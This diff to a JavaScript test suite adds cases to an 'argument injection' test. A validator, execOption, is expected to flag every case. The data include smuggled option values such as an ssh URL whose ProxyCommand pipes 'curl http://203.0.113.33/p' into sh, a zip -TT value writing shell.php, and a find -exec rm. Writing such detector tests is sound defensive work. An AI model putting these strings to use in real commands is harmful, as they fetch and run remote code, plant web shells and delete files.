@@ -21,6 +21,9 @@ describe("argument injection", () => {
       "x -exec rm {} ;",
       "-T -TT 'sh -c id'",
       '--unzip-command="sh -c id"',
+      // An ssh URL's host that is an option (git hands it to ssh), and zip's -TT among other flags.
+      "ssh://-oProxyCommand=sh -c 'curl http://203.0.113.33/p|sh'/x",
+      "-TvTT=id>shell.php foo.zip",
     ])
       expect(execOption(v), v).toBe(true);
   });
